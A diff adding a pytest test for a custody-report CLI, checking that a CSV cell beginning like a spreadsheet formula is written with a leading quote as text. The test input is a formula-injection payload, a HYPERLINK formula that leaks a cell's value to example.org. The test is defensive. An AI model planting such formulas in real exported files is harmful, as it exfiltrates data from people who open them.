@@ -120,6 +120,19 @@ def test_the_markdown_report_keeps_a_pipe_in_a_note_inside_its_cell(
     assert len(event_rows) == 1
 
 
+def test_a_csv_cell_that_starts_like_a_formula_is_written_as_text(
+    khavaran: Any, tmp_path: Path, data_dir: Path
+) -> None:
+    # A note (or a file's own title) like this would run when the report is opened in Excel.
+    source = make_source(tmp_path, "Formula note.", name="f.txt")
+    note = '=HYPERLINK("http://example.org/?leak="&A1,"open")'
+    khavaran("custody", str(source.pk), "verified", "--note", note)
+    text = khavaran("custody", str(source.pk), "--report", "--format", "csv").stdout
+    rows = list(csv.DictReader(io.StringIO(text)))
+    notes = [value for row in rows for value in row.values() if "HYPERLINK" in value]
+    assert notes == ["'" + note]
+
+
 @pytest.mark.parametrize(
     ("args", "message"),
     [
